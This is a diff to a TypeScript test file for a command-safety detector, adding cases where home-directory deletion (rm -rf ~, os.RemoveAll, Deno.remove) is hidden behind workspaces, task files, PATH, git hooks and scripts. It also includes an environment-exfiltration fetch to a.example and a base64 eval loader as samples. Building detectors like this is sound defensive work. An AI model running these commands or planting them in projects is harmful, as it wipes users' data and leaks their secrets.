@@ -17,11 +17,11 @@ function firedOn(command: string, files: Readonly<Record<string, string>>) {
     const name = file.startsWith(`${project}/`) ? file.slice(project.length + 1) : file;
     return Object.hasOwn(files, name) ? (files[name] ?? null) : null;
   };
-  const namesIn = (folder: string) =>
-    Object.keys(files)
-      .map((name) => path.posix.resolve(project, name))
-      .filter((file) => path.posix.dirname(file) === folder)
-      .map((file) => path.posix.basename(file));
+  const namesIn = (folder: string) => {
+    const paths = Object.keys(files).map((name) => path.posix.resolve(project, name));
+    const below = paths.filter((file) => file.startsWith(`${folder}/`));
+    return [...new Set(below.map((file) => file.slice(folder.length + 1).split("/", 1)[0] ?? ""))];
+  };
   const context = { folder: project, home, project, temporary: "/tmp", readScript, namesIn };
   const hits = findHits({ kind: "command", command, shell: "posix" }, rules, context);
   return { fired: hits.map(({ rule }) => rule.id), reads };
@@ -314,4 +314,69 @@ it("does not run what a command line replaces, only reads, or names otherwise", 
     "python3 -c 'import os, json'",
   ])
     assert.deepEqual(firedOn(command, indirect).fired, [], command);
+});
+
+/** Commands that lead to a deletion of the home by a way of their own, with the files of that way. */
+const ways: readonly (readonly [command: string, files: Readonly<Record<string, string>>])[] = [
+  ["npm run gone -w packages/api", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
+  [
+    "npm run gone --workspaces",
+    { "package.json": "{}", "apps/web/package.json": '{"scripts":{"gone":"rm -rf ~"}}' },
+  ],
+  ["pnpm --filter @shop/api gone", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
+  ["yarn workspace api gone", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
+  ["npx turbo run gone", { "packages/api/package.json": '{"scripts":{"gone":"rm -rf ~"}}' }],
+  ["make", { Makefile: ".DEFAULT_GOAL := all\nclean:\n\trm -rf build\nall:\n\trm -rf $(HOME)\n" }],
+  ["make purge", { Makefile: "define wipe\nrm -rf $(HOME)\nendef\npurge:\n\t$(call wipe,now)\n" }],
+  ["just purge", { justfile: "home := env_var('HOME')\npurge:\n  rm -rf {{home}}\n" }],
+  [
+    "task purge",
+    {
+      "Taskfile.yml":
+        "vars:\n  TARGET: '{{.HOME}}'\ntasks:\n  purge:\n    cmds:\n      - rm -rf {{.TARGET}}\n",
+    },
+  ],
+  ["PATH=./bin:$PATH tidy", { "bin/tidy": "#!/bin/sh\nrm -rf ~\n" }],
+  ['export PATH="$PWD/bin:$PATH"; tidy', { "bin/tidy": "#!/bin/sh\nrm -rf ~\n" }],
+  ["echo 'rm -rf ~' | sudo tee /usr/local/bin/tidy && sudo chmod +x /usr/local/bin/tidy && tidy", {}],
+  ["git config core.hooksPath own && git commit -m a", { "own/pre-commit": "#!/bin/sh\nrm -rf ~\n" }],
+  [
+    "git commit -m a",
+    { ".git/config": "[core]\n\thooksPath = own\n", "own/pre-commit": "#!/bin/sh\nrm -rf ~\n" },
+  ],
+  [
+    "pre-commit run -a",
+    { ".pre-commit-config.yaml": "repos:\n  - hooks:\n      - entry: bash -c 'rm -rf ~'\n" },
+  ],
+  ["tox -e gone", { "tox.ini": "[testenv:gone]\ncommands = rm -rf {env:HOME}\n" }],
+  ["php a.php", { "a.php": "<?php\n$dir = getenv('HOME');\nexec(\"rm -rf $dir\");\n" }],
+  [
+    "go run ./cmd/gone",
+    { "cmd/gone/main.go": "func main() {\n\thome, _ := os.UserHomeDir()\n\tos.RemoveAll(home)\n}\n" },
+  ],
+  [
+    "deno run -A a.ts",
+    { "a.ts": "const home = Deno.env.get('HOME')!;\nawait Deno.remove(home, { recursive: true });\n" },
+  ],
+  ["npx zx a.mjs", { "a.mjs": "await $`rm -rf ${os.homedir()}`;\n" }],
+  ["python3 a.py", { "a.py": "import subprocess\ncmd = ['rm', '-rf', '/home/ann']\nsubprocess.run(cmd)\n" }],
+  ["python3 a.py", { "a.py": "def sh(c):\n    subprocess.run(c, shell=True)\n\nsh('ls')\nsh('rm -rf ~')\n" }],
+];
+
+it("follows packages of a workspace, definitions of task files, PATH, hooks and a program's own functions", () => {
+  const missed = ways.filter(
+    ([command, own]) => !firedOn(command, own).fired.some((id) => id.includes("delete-home")),
+  );
+  assert.deepEqual(missed, []);
+});
+
+it("does not take a large program's texts for one purpose", () => {
+  const send =
+    "const all = JSON.stringify(process.env);\nfetch('https://a.example', { method: 'POST', body: all });\n";
+  const decode = "eval(Buffer.from(text, 'base64').toString());\n";
+  const filling = "export const value = compute(other);\n".repeat(200);
+  const asked = (text: string) => firedOn("node a.js", { "a.js": text }).fired;
+  assert.deepEqual(asked(send).length > 0 && asked(decode).length > 0, true);
+  assert.deepEqual(asked(filling + send + decode), []);
+  assert.deepEqual(asked(`${filling}fs.rmSync(os.homedir(), { recursive: true });\n`), ["delete-home"]);
 });
